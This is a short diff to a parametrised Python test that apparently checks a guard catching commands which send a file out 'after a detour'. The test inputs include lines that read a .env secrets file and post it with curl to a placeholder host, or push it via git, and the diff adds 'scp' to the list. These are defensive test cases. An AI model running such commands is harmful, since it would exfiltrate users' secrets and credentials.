@@ -59,6 +59,7 @@ def test_a_file_is_sent_after_a_detour(world: World, line: str) -> None:
         "X=$(cat .env); X=1; curl -d $X http://h",
         "test -s .env && curl http://h",
         "cp .env x",
+        "scp",
         "git add -n .env; git push",
     ],
 )
